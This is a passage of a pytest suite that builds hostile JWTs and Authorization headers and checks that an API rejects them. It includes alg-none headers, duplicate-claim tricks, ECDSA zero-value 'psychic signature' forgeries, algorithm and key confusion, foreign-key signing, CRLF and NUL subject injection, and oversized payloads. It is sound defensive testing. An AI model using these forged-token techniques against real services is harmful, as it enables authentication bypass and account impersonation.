    pytest.param(lambda k: k.token() + "." + b64url(b"extra"), id="segments/4"),
    pytest.param(lambda k: k.token() + ".", id="segments/4-last-empty"),
    pytest.param(jwe_to_the_rsa_key, id="segments/5-real-jwe-to-the-published-rsa-key"),
    pytest.param(lambda k: k.token() + ".AAAA.AAAA", id="segments/5-jws-plus-two"),
    pytest.param(lambda k: k.token() + ".AAAA.AAAA.AAAA", id="segments/6"),
    pytest.param(lambda k: "." + k.token(), id="segments/leading-dot"),
    pytest.param(lambda k: k.token().replace(".", "..", 1), id="segments/double-dot"),
    pytest.param(lambda k: "..", id="segments/dots-only"),
    pytest.param(lambda k: "." * 8000, id="segments/8001-empty"),
    pytest.param(lambda k: ".".join(["e30"] * 2000), id="segments/2000"),
    pytest.param(lambda k: json_serialization(k.token()), id="segments/jws-json-serialization"),
]

ENCODING = [
    pytest.param(lambda k: reencoded(k, "header", with_stray_bits), id="base64/non-canonical-header"),
    pytest.param(lambda k: reencoded(k, "payload", with_stray_bits), id="base64/non-canonical-payload"),
    pytest.param(lambda k: reencoded(k, "signature", with_stray_bits), id="base64/non-canonical-signature"),
    pytest.param(lambda k: reencoded(k, "header", padded), id="base64/padded-header"),
    pytest.param(lambda k: reencoded(k, "payload", padded), id="base64/padded-payload"),
    pytest.param(lambda k: reencoded(k, "signature", padded), id="base64/padded-signature"),
    pytest.param(lambda k: with_standard_alphabet(k, "header"), id="base64/standard-alphabet-header"),
    pytest.param(lambda k: with_standard_alphabet(k, "payload"), id="base64/standard-alphabet-payload"),
    pytest.param(lambda k: with_standard_alphabet(k, "signature"), id="base64/standard-alphabet-signature"),
    pytest.param(lambda k: insert(k.token(), 20, " "), id="whitespace/space-inside-header"),
    pytest.param(lambda k: insert(k.token(), 20, "\t"), id="whitespace/tab-inside-header"),
    pytest.param(lambda k: insert(k.token(), -20, "\t"), id="whitespace/tab-inside-signature"),
    pytest.param(lambda k: insert(k.token(), 20, "\x0b"), id="whitespace/vertical-tab-inside"),
    pytest.param(lambda k: insert(k.token(), 20, "\x0c"), id="whitespace/form-feed-inside"),
    pytest.param(lambda k: insert(k.token(), 20, "\xa0"), id="whitespace/nbsp-inside"),
    pytest.param(lambda k: k.token().replace(".", " .", 1), id="whitespace/space-before-dot"),
    pytest.param(lambda k: after_dot(k.token(), " "), id="whitespace/space-after-dot"),
    pytest.param(lambda k: after_dot(k.token(), "\t"), id="whitespace/tab-after-dot"),
    pytest.param(lambda k: insert(k.token(), 20, "\n"), id="newline/lf-inside-header"),
    pytest.param(lambda k: insert(k.token(), -20, "\r\n"), id="newline/crlf-inside-signature"),
    pytest.param(lambda k: after_dot(k.token(), "\n"), id="newline/lf-after-dot"),
    pytest.param(lambda k: insert(k.token(), 20, "\r\n "), id="newline/obs-fold-inside"),
    pytest.param(lambda k: insert(k.token(), 20, "%2B"), id="base64/percent-encoded-inside"),
]

JSON_SHAPE = [
    pytest.param(
        lambda k: k.signed_by("EdDSA", f'{{"alg":"none","alg":"EdDSA","kid":"{k.key().kid}"}}'.encode()),
        id="duplicate/header-alg-none-first",
    ),
    pytest.param(
        lambda k: k.signed_by("EdDSA", f'{{"alg":"EdDSA","alg":"EdDSA","kid":"{k.key().kid}"}}'.encode()),
        id="duplicate/header-alg-same-value",
    ),
    pytest.param(
        lambda k: k.signed_by("EdDSA", f'{{"alg":"EdDSA","kid":"attacker","kid":"{k.key().kid}"}}'.encode()),
        id="duplicate/header-kid",
    ),
    pytest.param(
        lambda k: k.signed_by("EdDSA", f'{{"alg":"EdDSA","\\u0061lg":"EdDSA","kid":"{k.key().kid}"}}'.encode()),
        id="duplicate/header-alg-escaped-spelling",
    ),
    pytest.param(
        lambda k: k.signed_by("EdDSA", k.header(), dup_claims(k, "sub", "someone-else", k.user)),
        id="duplicate/claims-sub-ours-last",
    ),
    pytest.param(
        lambda k: k.signed_by("EdDSA", k.header(), dup_claims(k, "sub", k.user, "someone-else")),
        id="duplicate/claims-sub-ours-first",
    ),
    pytest.param(
        lambda k: k.signed_by("EdDSA", k.header(), dup_claims(k, "sub", "someone-else", k.user, spelled="s\\u0075b")),
        id="duplicate/claims-sub-escaped-spelling",
    ),
    pytest.param(
        lambda k: k.signed_by("EdDSA", k.header(), dup_claims(k, "exp", 1, int(time.time()) + 600)),
        id="duplicate/claims-exp",
    ),
    pytest.param(
        lambda k: k.signed_by("EdDSA", k.header(), dup_claims(k, "iss", "http://evil.test", ISSUER_URL)),
        id="duplicate/claims-iss",
    ),
    pytest.param(
        lambda k: k.signed_by(
            "EdDSA", k.header(), to_json(k.claims())[:-1] + b',"user":{"role":"user","role":"admin"}}'
        ),
        id="duplicate/claims-nested-object",
    ),
    pytest.param(
        lambda k: unsigned(to_json(k.header())[:-1] + ',"ключ":1,"ключ":2}'.encode(), k.claims(), bytes(64)),
        id="duplicate/non-latin-1-member-name",
    ),
    pytest.param(lambda k: k.signed_by("EdDSA", b"[]"), id="header-not-object/array"),
    pytest.param(lambda k: k.signed_by("EdDSA", to_json([k.header()])), id="header-not-object/array-of-header"),
    pytest.param(lambda k: k.signed_by("EdDSA", b'"EdDSA"'), id="header-not-object/string"),
    pytest.param(lambda k: k.signed_by("EdDSA", b"42"), id="header-not-object/number"),
    pytest.param(lambda k: k.signed_by("EdDSA", b"null"), id="header-not-object/null"),
    pytest.param(lambda k: k.signed_by("EdDSA", b"{}"), id="header-not-object/empty-object"),
    pytest.param(lambda k: k.signed_by("EdDSA", k.header(), to_json([k.claims()])), id="payload-not-object/array"),
    pytest.param(
        lambda k: k.signed_by("EdDSA", k.header(), json.dumps(k.user).encode()), id="payload-not-object/string"
    ),
    pytest.param(lambda k: k.signed_by("EdDSA", k.header(), b"42"), id="payload-not-object/number"),
    pytest.param(lambda k: k.signed_by("EdDSA", k.header(), b"true"), id="payload-not-object/true"),
    pytest.param(lambda k: k.signed_by("EdDSA", k.header(), b"null"), id="payload-not-object/null"),
    pytest.param(lambda k: k.signed_by("EdDSA", k.header(), b"{}"), id="payload-not-object/empty-object"),
    pytest.param(lambda k: k.signed_by("EdDSA", k.header(), to_json(k.claims()) + b"{}"), id="payload/trailing-data"),
    pytest.param(lambda k: k.signed_by("EdDSA", k.header(), to_json(k.claims())[:-1]), id="payload/truncated-json"),
    pytest.param(lambda k: k.signed_by("EdDSA", k.header(), b"not json"), id="payload/not-json"),
    pytest.param(
        lambda k: k.signed_by("EdDSA", k.header(), k.claims(x=nested(10_000))), id="nesting/payload-10000-levels"
    ),
    pytest.param(
        lambda k: k.signed_by("EdDSA", k.header(), k.claims(x=nested(2_500))), id="nesting/payload-2500-levels"
    ),
    pytest.param(
        lambda k: k.signed_by("EdDSA", k.header(x=nested(2_500)), k.claims()), id="nesting/header-2500-levels"
    ),
    pytest.param(
        lambda k: k.signed_by("EdDSA", k.header(), k.claims(exp=Raw("9" * 5000))), id="number/exp-5000-digits"
    ),
]

UTF8 = [
    pytest.param(lambda k, p=part, d=data: odd_encoding(k, p, d(k, p)), id=f"utf8/{part}-{name}")
    for part in ("header", "payload")
    for name, data in [
        ("invalid-byte-ff", lambda k, p: (header_text_with if p == "header" else claims_text_with)(k, b"\xff")),
        ("overlong-slash", lambda k, p: (header_text_with if p == "header" else claims_text_with)(k, b"\xc0\xaf")),
        ("truncated-sequence", lambda k, p: (header_text_with if p == "header" else claims_text_with)(k, b"\xe2\x82")),
        (
            "encoded-surrogate",
            lambda k, p: (header_text_with if p == "header" else claims_text_with)(k, b"\xed\xa0\x80"),
        ),
        ("utf16", lambda k, p: to_json(k.header() if p == "header" else k.claims()).decode().encode("utf-16")),
        ("utf8-bom", lambda k, p: b"\xef\xbb\xbf" + to_json(k.header() if p == "header" else k.claims())),
    ]
]

ECDSA = [
    pytest.param(lambda k: ecdsa_edge(k, "ES256", 0, 0), id="ecdsa/es256/r=s=0-psychic-signature"),
    pytest.param(lambda k: ecdsa_edge(k, "ES512", 0, 0), id="ecdsa/es512/r=s=0-psychic-signature"),
    pytest.param(lambda k: ecdsa_edge(k, "ES256", P256_ORDER, P256_ORDER), id="ecdsa/es256/r=s=n"),
    pytest.param(lambda k: ecdsa_edge(k, "ES512", P521_ORDER, P521_ORDER), id="ecdsa/es512/r=s=n"),
    pytest.param(lambda k: ecdsa_edge(k, "ES256", 0, None), id="ecdsa/es256/r=0"),
    pytest.param(lambda k: ecdsa_edge(k, "ES256", None, 0), id="ecdsa/es256/s=0"),
    pytest.param(lambda k: ecdsa_edge(k, "ES256", P256_ORDER, None), id="ecdsa/es256/r=n"),
    pytest.param(lambda k: ecdsa_edge(k, "ES256", None, P256_ORDER), id="ecdsa/es256/s=n"),
    pytest.param(lambda k: ecdsa_edge(k, "ES512", None, P521_ORDER), id="ecdsa/es512/s=n"),
    pytest.param(lambda k: ecdsa_edge(k, "ES256", 1, 1), id="ecdsa/es256/r=s=1"),
    pytest.param(lambda k: ecdsa_der(k, "ES256"), id="ecdsa/es256/der-encoded"),
    pytest.param(lambda k: ecdsa_der(k, "ES512"), id="ecdsa/es512/der-encoded"),
    pytest.param(lambda k: ecdsa_swapped(k, "ES256"), id="ecdsa/es256/r-and-s-swapped"),
    pytest.param(lambda k: mangled(k, "ES256", lambda sig: sig[:-1]), id="ecdsa/es256/63-bytes"),
    pytest.param(lambda k: mangled(k, "ES256", lambda sig: sig + b"\x00"), id="ecdsa/es256/65-bytes"),
    pytest.param(lambda k: mangled(k, "ES256", lambda sig: b"\x00"), id="ecdsa/es256/one-byte"),
    pytest.param(lambda k: mangled(k, "EdDSA", lambda sig: bytes(64)), id="eddsa/all-zero-signature"),
    pytest.param(eddsa_s_plus_order, id="eddsa/s-plus-group-order"),
    pytest.param(lambda k: mangled(k, "EdDSA", lambda sig: sig[:32]), id="eddsa/32-bytes"),
    pytest.param(lambda k: rsa_signature_edge(k, "RS256", "zero"), id="rsa/rs256/signature-zero"),
    pytest.param(lambda k: rsa_signature_edge(k, "RS256", "one"), id="rsa/rs256/signature-one"),
    pytest.param(lambda k: rsa_signature_edge(k, "RS256", "modulus"), id="rsa/rs256/signature-equals-modulus"),
    pytest.param(lambda k: rsa_signature_edge(k, "RS256", "leading-zero-byte"), id="rsa/rs256/leading-zero-byte-added"),
    pytest.param(lambda k: rsa_signature_edge(k, "PS256", "truncated"), id="rsa/ps256/truncated"),
]

KEY_ALG_MISMATCH = [
    pytest.param(lambda k: under_kid(k, "EdDSA", "RS256"), id="mismatch/eddsa-header-rsa-kid"),
    pytest.param(lambda k: under_kid(k, "EdDSA", "ES256"), id="mismatch/eddsa-header-ec-kid"),
    pytest.param(lambda k: under_kid(k, "ES256", "ES512"), id="mismatch/es256-header-p521-kid"),
    pytest.param(lambda k: under_kid(k, "ES512", "ES256"), id="mismatch/es512-header-p256-kid"),
    pytest.param(lambda k: under_kid(k, "ES256", "ES384"), id="mismatch/es256-header-p384-kid"),
    pytest.param(lambda k: under_kid(k, "ES256", "EdDSA"), id="mismatch/es256-header-okp-kid"),
    pytest.param(lambda k: under_kid(k, "RS256", "ES256"), id="mismatch/rs256-header-ec-kid"),
    pytest.param(lambda k: under_kid(k, "RS256", "EdDSA"), id="mismatch/rs256-header-okp-kid"),
    *(
        pytest.param(lambda k, n=name, h=header, a=alg: signed_with_other_alg(k, n, h, a), id=f"mismatch/{case}")
        for name, header, alg, case in [
            ("PS256", "RS256", "PS256", "ps256-signature-under-rs256-header"),
            ("RS256", "PS256", "RS256", "rs256-signature-under-ps256-header"),
            ("RS256", "RS256", "PS256", "pss-signature-verified-as-rs256"),
            ("PS256", "PS256", "RS256", "pkcs1-signature-verified-as-ps256"),
            ("RS256", "PS256", "PS256", "ps256-header-rs256-published-key"),
            ("PS256", "RS256", "RS256", "rs256-header-ps256-published-key"),
        ]
    ),
    pytest.param(
        lambda k: sign(
            {"alg": "ES256", "kid": k.material.enc_key.kid}, k.claims(), k.material.enc_key.private, "ES256"
        ),
        id="mismatch/key-published-with-use-enc",
    ),
]

FOREIGN_SIGNER = [
    pytest.param(
        lambda k: forged_by(k, "Ed25519", "EdDSA", {"kid": k.key("EdDSA").kid}), id="foreign-key/eddsa-known-kid"
    ),
    pytest.param(
        lambda k: forged_by(k, "P-256", "ES256", {"kid": k.key("ES256").kid}), id="foreign-key/es256-known-kid"
    ),
    pytest.param(
        lambda k: forged_by(k, "P-521", "ES512", {"kid": k.key("ES512").kid}), id="foreign-key/es512-known-kid"
    ),
    pytest.param(lambda k: forged_by(k, "RSA", "RS256", {"kid": k.key("RS256").kid}), id="foreign-key/rs256-known-kid"),
    pytest.param(lambda k: forged_by(k, "RSA", "PS256", {"kid": k.key("PS256").kid}), id="foreign-key/ps256-known-kid"),
    pytest.param(
        lambda k: sign(k.header("EdDSA"), k.claims(), k.key("EdDSA-2").private, "EdDSA"),
        id="foreign-key/other-published-key-signed",
    ),
    pytest.param(lambda k: forged_by(k, "Ed25519", "EdDSA", {"kid": "k" * 32}), id="foreign-key/unknown-kid"),
]


def at(offset: int) -> Callable[[], int]:
    return lambda: int(time.time()) + offset


CLAIM_CASES: list[tuple[str, Callable[[], dict[str, Any]]]] = [
    ("exp/expired-beyond-leeway", lambda: {"exp": at(-LEEWAY_SECONDS - 30)(), "iat": at(-1000)()}),
    ("exp/expired-long-ago", lambda: {"exp": 1, "iat": 0}),
    ("exp/zero", lambda: {"exp": 0}),
    ("exp/negative", lambda: {"exp": -1}),
    ("exp/missing", lambda: {"exp": DROP}),
    ("exp/null", lambda: {"exp": None}),
    ("exp/string", lambda: {"exp": str(at(600)())}),
    ("exp/true", lambda: {"exp": True}),
    ("exp/nan", lambda: {"exp": Raw("NaN")}),
    ("exp/infinity", lambda: {"exp": Raw("Infinity")}),
    ("exp/1e400", lambda: {"exp": Raw("1e400")}),
    ("exp/401-digit-integer", lambda: {"exp": Raw("1" + "0" * 400)}),
    ("exp/array", lambda: {"exp": [at(600)()]}),
    ("nbf/future-beyond-leeway", lambda: {"nbf": at(LEEWAY_SECONDS + 90)()}),
    ("nbf/string", lambda: {"nbf": str(at(-10)())}),
    ("nbf/true", lambda: {"nbf": True}),
    ("nbf/nan", lambda: {"nbf": Raw("NaN")}),
    ("nbf/minus-infinity", lambda: {"nbf": Raw("-Infinity")}),
    ("iat/future-beyond-leeway", lambda: {"iat": at(LEEWAY_SECONDS + 90)()}),
    ("iat/missing", lambda: {"iat": DROP}),
    ("iat/null", lambda: {"iat": None}),
    ("iat/string", lambda: {"iat": str(at(0)())}),
    ("iat/true", lambda: {"iat": True}),
    ("iat/false", lambda: {"iat": False}),
    ("iat/nan", lambda: {"iat": Raw("NaN")}),
    ("iat/minus-infinity", lambda: {"iat": Raw("-Infinity")}),
    ("iat/minus-1e400", lambda: {"iat": Raw("-1e400")}),
    ("iat/minus-401-digit-integer", lambda: {"iat": Raw("-1" + "0" * 400)}),
    ("iat/object", lambda: {"iat": {"$date": at(0)()}}),
    ("iss/wrong", lambda: {"iss": "http://evil.test"}),
    ("iss/missing", lambda: {"iss": DROP}),
    ("iss/null", lambda: {"iss": None}),
    ("iss/empty", lambda: {"iss": ""}),
    ("iss/trailing-slash", lambda: {"iss": ISSUER_URL + "/"}),
    ("iss/upper-case", lambda: {"iss": ISSUER_URL.upper()}),
    ("iss/list-holding-ours", lambda: {"iss": [ISSUER_URL]}),
    ("iss/prefix-match", lambda: {"iss": ISSUER_URL + ".evil.test"}),
    ("aud/wrong", lambda: {"aud": "http://other.test"}),
    ("aud/list-without-us", lambda: {"aud": ["http://other.test", "http://evil.test"]}),
    ("aud/missing", lambda: {"aud": DROP}),
    ("aud/null", lambda: {"aud": None}),
    ("aud/empty-string", lambda: {"aud": ""}),
    ("aud/empty-list", lambda: {"aud": []}),
    ("aud/list-of-non-strings", lambda: {"aud": [1, {"aud": ISSUER_URL}]}),
    ("aud/nested-list-holding-ours", lambda: {"aud": [[ISSUER_URL]]}),
    ("aud/trailing-slash", lambda: {"aud": ISSUER_URL + "/"}),
    ("sub/missing", lambda: {"sub": DROP}),
    ("sub/null", lambda: {"sub": None}),
    ("sub/empty", lambda: {"sub": ""}),
    ("sub/number", lambda: {"sub": 42}),
    ("sub/true", lambda: {"sub": True}),
    ("sub/object", lambda: {"sub": {"id": "x"}}),
    ("sub/array", lambda: {"sub": ["x"]}),
]
CLAIMS = [
    pytest.param(lambda k, c=claims: k.token(claims=c()), id=f"claims/{name}") for name, claims in CLAIM_CASES
] + [
    # The same claim under a forged signature: whatever the claims check does, it does before any key is used.
    pytest.param(
        lambda k: unsigned(k.header(), k.claims(iat=Raw("-1" + "0" * 400)), bytes(64)),
        id="claims/iat/minus-401-digit-integer-forged-signature",
    ),
]

# A subject the issuer should never issue. The token is otherwise valid and is sent to /api/{sub}/tasks.
SUBJECT_CASES: list[tuple[str, str]] = [
    ("nul-byte", "user\x00admin"),
    ("soh", "user\x01"),
    ("tab", "user\tadmin"),
    ("lf", "user\nadmin"),
    ("crlf", "user\r\nadmin"),
    ("escape-sequence", "user\x1b[2J"),
    ("del", "user\x7f"),
    ("c1-nel", "user\x85"),
    ("whitespace-only", "   "),
    ("lone-surrogate", "user\ud800"),
    ("256-chars", "u" * 256),
    ("10-kib", "u" * 10 * 1024),
]
SUBJECTS = [
    pytest.param(lambda k, s=sub: Attack(k.token(claims={"sub": s}), s), id=f"sub/{name}")
    for name, sub in SUBJECT_CASES
]

SIZE = [
    pytest.param(lambda k: "a" * (MAX_TOKEN_BYTES + 1), id="size/8-kib-plus-one-garbage"),
    pytest.param(lambda k: k.token(claims={"name": "n" * MAX_TOKEN_BYTES}), id="size/validly-signed-over-8-kib"),
    pytest.param(lambda k: padded_to(k, MAX_TOKEN_BYTES + 1), id="size/validly-signed-one-byte-over-the-limit"),
]

HOSTILE_TOKENS = [
    *ALG_NONE,
    *ALG_NAMES,
    *HMAC_CONFUSION,
    *EMBEDDED_KEYS,
    *KIDS,
    *CRIT_AND_B64,
    *SEGMENTS,
    *ENCODING,
    *JSON_SHAPE,
    *UTF8,
    *ECDSA,
    *KEY_ALG_MISMATCH,
    *FOREIGN_SIGNER,
    *CLAIMS,
    *SUBJECTS,
    *SIZE,
]

# Requests whose Authorization (or lack of it) must be refused; build(kit, token) -> request kwargs.
BuildRequest = Callable[[Kit, str], dict[str, Any]]


def authorization(*values: str | bytes) -> Callable[[Kit, str], dict[str, Any]]:
    """Headers built from templates where `{t}` stands for a valid token."""

    def build(kit: Kit, token: str) -> dict[str, Any]:
        headers = []
        for value in values:
            value = value.replace(b"{t}", token.encode()) if isinstance(value, bytes) else value.replace("{t}", token)
            headers.append((b"authorization", header_bytes(value)))
        return {"headers": headers}

    return build


def other_headers(**headers: str) -> Callable[[Kit, str], dict[str, Any]]:
    def build(kit: Kit, token: str) -> dict[str, Any]:
        pairs = [
            (name.replace("_", "-").encode(), header_bytes(v.replace("{t}", token))) for name, v in headers.items()
        ]
        return {"headers": pairs}

    return build


def query(**params: str) -> Callable[[Kit, str], dict[str, Any]]:
    return lambda kit, token: {"params": {name: v.replace("{t}", token) for name, v in params.items()}}


AUTHORIZATION_REFUSED = [
    pytest.param(authorization(), "missing_token", id="auth/no-header"),
    pytest.param(authorization(""), "invalid_token", id="auth/empty-header"),
    pytest.param(authorization("Bearer"), "invalid_token", id="auth/scheme-only"),
    pytest.param(authorization("Bearer    "), "invalid_token", id="auth/scheme-and-spaces"),
    pytest.param(authorization("{t}"), "invalid_token", id="auth/token-without-scheme"),
    pytest.param(authorization("Basic {t}"), "invalid_token", id="auth/scheme-basic"),
    pytest.param(authorization("Basic YWxpY2U6c2VjcmV0"), "invalid_token", id="auth/basic-credentials"),
    pytest.param(authorization("Token {t}"), "invalid_token", id="auth/scheme-token"),
    pytest.param(authorization("JWT {t}"), "invalid_token", id="auth/scheme-jwt"),
    pytest.param(authorization("DPoP {t}"), "invalid_token", id="auth/scheme-dpop"),
    pytest.param(authorization("Bearer: {t}"), "invalid_token", id="auth/scheme-with-colon"),
    pytest.param(authorization("Bearer{t}"), "invalid_token", id="auth/no-separator"),
    pytest.param(authorization("Bearer\t{t}"), "invalid_token", id="auth/tab-separator"),
    pytest.param(authorization("Bearer \t{t}"), "invalid_token", id="auth/space-then-tab"),
    pytest.param(authorization("Bearer\xa0{t}"), "invalid_token", id="auth/nbsp-separator"),
    pytest.param(authorization("Bearer \x1c{t}"), "invalid_token", id="auth/file-separator-before-token"),
    pytest.param(authorization("Bearer {t}\x1f"), "invalid_token", id="auth/unit-separator-after-token"),
    pytest.param(authorization("Bearer {t}\x85"), "invalid_token", id="auth/nel-after-token"),
    pytest.param(authorization("Bearer {t}\xa0"), "invalid_token", id="auth/nbsp-after-token"),
    pytest.param(authorization("Bearer Bearer {t}"), "invalid_token", id="auth/scheme-twice"),
    pytest.param(authorization("Bearer {t} {t}"), "invalid_token", id="auth/token-twice"),
    pytest.param(
        authorization("Bearer {t}, Basic Zm9vOmJhcg=="), "invalid_token", id="auth/two-credentials-in-one-line"
    ),
    pytest.param(authorization('Bearer token="{t}"'), "invalid_token", id="auth/auth-param-form"),
    pytest.param(authorization("Bearer {t}", "Bearer {t}"), "invalid_token", id="auth/two-headers-both-valid"),
    pytest.param(authorization("Bearer {t}", "Bearer garbage"), "invalid_token", id="auth/two-headers-valid-first"),
    pytest.param(authorization("Bearer garbage", "Bearer {t}"), "invalid_token", id="auth/two-headers-valid-last"),
    pytest.param(authorization("Basic Zm9vOmJhcg==", "Bearer {t}"), "invalid_token", id="auth/two-headers-basic-first"),
    pytest.param(authorization(*["Bearer {t}"] * 100), "invalid_token", id="auth/100-headers"),
    pytest.param(authorization(b"Bearer \xff{t}"), "invalid_token", id="auth/non-ascii-byte"),
    pytest.param(authorization("Bearer {t}\x00"), "invalid_token", id="auth/nul-after-token"),
    pytest.param(authorization("Bearer " + "A" * 64 * 1024), "invalid_token", id="auth/64-kib-line"),
    pytest.param(authorization("Basic " + "A" * 64 * 1024), "invalid_token", id="auth/64-kib-line-basic"),
    pytest.param(authorization("Bearer " + "A." * 512 * 1024), "invalid_token", id="auth/1-mib-line"),
    pytest.param(query(access_token="{t}"), "missing_token", id="auth/query-access-token"),
    pytest.param(query(token="{t}"), "missing_token", id="auth/query-token"),
    pytest.param(query(authorization="Bearer {t}"), "missing_token", id="auth/query-authorization"),
    pytest.param(other_headers(cookie="token={t}"), "missing_token", id="auth/cookie-token"),
    pytest.param(other_headers(cookie="access_token={t}"), "missing_token", id="auth/cookie-access-token"),
    pytest.param(other_headers(cookie="better-auth.session_token={t}"), "missing_token", id="auth/cookie-session"),
    pytest.param(other_headers(cookie="Authorization=Bearer {t}"), "missing_token", id="auth/cookie-authorization"),
    pytest.param(
        other_headers(proxy_authorization="Bearer {t}"), "missing_token", id="auth/proxy-authorization-header"
    ),
    pytest.param(other_headers(x_access_token="{t}"), "missing_token", id="auth/x-access-token-header"),
    pytest.param(other_headers(authentication="Bearer {t}"), "missing_token", id="auth/authentication-header"),
    pytest.param(other_headers(x_forwarded_authorization="Bearer {t}"), "missing_token", id="auth/x-forwarded-auth"),
]

# Positive controls: the same plumbing accepts what it should.
VALID_TOKENS = [
    *(
        pytest.param(lambda k, n=name: k.token(n), id=f"valid/{name}")
        for name in ("EdDSA", "EdDSA-2", "ES256", "ES512", "RS256", "PS256")
    ),
    pytest.param(lambda k: k.token(header={"typ": "JWT"}), id="valid/typ-jwt"),
    pytest.param(lambda k: k.token(claims={"aud": ["http://other.test", ISSUER_URL]}), id="valid/aud-list-holding-us"),
    pytest.param(lambda k: k.token(claims={"exp": at(-LEEWAY_SECONDS + 20)()}), id="valid/exp-within-leeway"),
    pytest.param(lambda k: k.token(claims={"iat": at(LEEWAY_SECONDS - 20)()}), id="valid/iat-future-within-leeway"),
    pytest.param(lambda k: k.token(claims={"nbf": at(LEEWAY_SECONDS - 20)()}), id="valid/nbf-future-within-leeway"),
    pytest.param(lambda k: k.token(claims={"exp": float(at(600)()) + 0.5}), id="valid/exp-fractional-numericdate"),
    pytest.param(lambda k: k.token(claims={"name": "Zoë 🙂", "role": "user"}), id="valid/non-ascii-and-extra-claims"),
    pytest.param(lambda k: k.token(header={"kid": k.key().kid, "x-extra": 1}), id="valid/unknown-non-critical-header"),
    pytest.param(lambda k: padded_to(k, MAX_TOKEN_BYTES), id="valid/at-the-size-limit"),
]

AUTHORIZATION_ACCEPTED = [
    pytest.param(authorization("Bearer {t}"), id="auth-ok/canonical"),
    pytest.param(authorization("bearer {t}"), id="auth-ok/lowercase-scheme"),
    pytest.param(authorization("BEARER {t}"), id="auth-ok/uppercase-scheme"),
    pytest.param(authorization("bEaReR {t}"), id="auth-ok/mixed-case-scheme"),
    pytest.param(authorization("Bearer   {t}"), id="auth-ok/several-spaces"),  # RFC 7235: 1*SP
    pytest.param(authorization("Bearer {t} "), id="auth-ok/trailing-space"),  # field OWS
    pytest.param(authorization("Bearer {t}\t"), id="auth-ok/trailing-tab"),  # field OWS
    pytest.param(
        lambda k, t: {"headers": [(b"authorization", f"Bearer {t}".encode())], "params": {"access_token": "garbage"}},
        id="auth-ok/header-wins-over-query",
    ),
]


# --- the tests --------------------------------------------------------------------------------


@pytest.mark.parametrize("build", HOSTILE_TOKENS)
async def test_hostile_token_is_refused(outbound, kit: Kit, client: httpx.AsyncClient, build: Build):
    attack = build(kit)
    token, user = (attack.token, attack.user) if isinstance(attack, Attack) else (attack, kit.user)
    headers = [(b"authorization", header_bytes(f"Bearer {token}"))]
    response, elapsed = await timed_get(client, path_for(user), headers=headers)
    assert_refused(response, elapsed, outbound, kit.issuer.jwks_url, secret=token)


@pytest.mark.parametrize("build, code", AUTHORIZATION_REFUSED)
async def test_hostile_authorization_is_refused(
    outbound, kit: Kit, client: httpx.AsyncClient, build: BuildRequest, code: str
):
    token = kit.token()
    response, elapsed = await timed_get(client, path_for(kit.user), **build(kit, token))
    assert_refused(response, elapsed, outbound, kit.issuer.jwks_url, code=code, secret=token)


async def test_deeply_nested_json_is_refused_when_the_size_limit_lets_it_through(outbound, kit: Kit, start_app):
    """10,000 levels no longer fit in 8 KiB, so raise the limit to reach the JSON parser itself."""
    async with start_app(max_token_bytes=65536) as client:
        for token in (
            kit.signed_by("EdDSA", kit.header(), kit.claims(x=nested(10_000))),
            kit.signed_by("EdDSA", kit.header(x=Raw("{" + '"a":{' * 10_000 + "}" * 10_001)), kit.claims()),
        ):
            assert len(token) > MAX_TOKEN_BYTES
            response, elapsed = await timed_get(
                client, path_for(kit.user), headers={"Authorization": f"Bearer {token}"}
            )
            assert_refused(response, elapsed, outbound, kit.issuer.jwks_url, secret=token)


# While the JWKS host is down and no key is held, a token that needs a key gets 503 (DESIGN §2);
# one refused before any key is looked up still gets 401. Neither is ever accepted.
OUTAGE_SAMPLE = [
    param
    for param in HOSTILE_TOKENS
    if param.id
    in {
        "alg-none/none/with-signature",
        "hmac-with-public-key/HS256/EdDSA/jwk-json",
        "embedded/jwk/issuer-kid",
        "embedded/jku/attacker-kid",
        "kid/path-traversal",
        "ecdsa/es256/r=s=0-psychic-signature",
        "foreign-key/eddsa-known-kid",
        "foreign-key/unknown-kid",
        "claims/exp/expired-beyond-leeway",
    }
]


@pytest.mark.parametrize("build", OUTAGE_SAMPLE)
async def test_hostile_token_during_a_jwks_outage_is_401_or_503(outbound, kit: Kit, jwks_router, start_app, build):
    jwks_router.routes[0].mock(return_value=httpx.Response(500))
    try:
        async with start_app() as client:
            token = build(kit)
            headers = [(b"authorization", header_bytes(f"Bearer {token}"))]
            response, elapsed = await timed_get(client, path_for(kit.user), headers=headers)
    finally:  # the router is shared by the module: serve the keys again
        jwks_router.routes[0].mock(side_effect=kit.issuer.jwks_response)
    if response.status_code == 503:
        assert elapsed < MAX_SECONDS, f"took {elapsed:.2f} s"
        assert response.json()["code"] == "keys_unavailable" and int(response.headers["retry-after"]) >= 1
        assert_only_jwks_fetched(outbound, kit.issuer.jwks_url)
    else:
        assert_refused(response, elapsed, outbound, kit.issuer.jwks_url, secret=token)


@pytest.mark.parametrize("build", VALID_TOKENS)
async def test_valid_token_is_accepted(outbound, kit: Kit, client: httpx.AsyncClient, build: Build):
    response, elapsed = await timed_get(client, path_for(kit.user), headers={"Authorization": f"Bearer {build(kit)}"})
    assert response.status_code == 200, response.text
    assert response.json() == []
    assert elapsed < MAX_SECONDS
    assert_only_jwks_fetched(outbound, kit.issuer.jwks_url)


@pytest.mark.parametrize("build", AUTHORIZATION_ACCEPTED)
async def test_valid_authorization_is_accepted(outbound, kit: Kit, client: httpx.AsyncClient, build: BuildRequest):
    response, elapsed = await timed_get(client, path_for(kit.user), **build(kit, kit.token()))
    assert response.status_code == 200, response.text
    assert elapsed < MAX_SECONDS
    assert_only_jwks_fetched(outbound, kit.issuer.jwks_url)


def test_the_corpus_covers_every_class_with_unique_ids():
    """Guards the tables themselves: ids are unique and every class named in issue 5 is present."""
    ids = [param.id for param in HOSTILE_TOKENS + AUTHORIZATION_REFUSED]
    assert len(ids) == len(set(ids))
    prefixes = {case_id.split("/")[0] for case_id in ids}
    assert {
        "alg-none",
        "alg",
        "hmac-with-public-key",
        "embedded",
        "kid",
        "crit",
        "b64-false",
        "segments",
        "base64",
        "whitespace",
        "newline",
        "duplicate",
        "header-not-object",
        "payload-not-object",
        "nesting",
        "utf8",
        "ecdsa",
        "mismatch",
        "foreign-key",
        "claims",
        "sub",
        "size",
        "auth",
    } <= prefixes
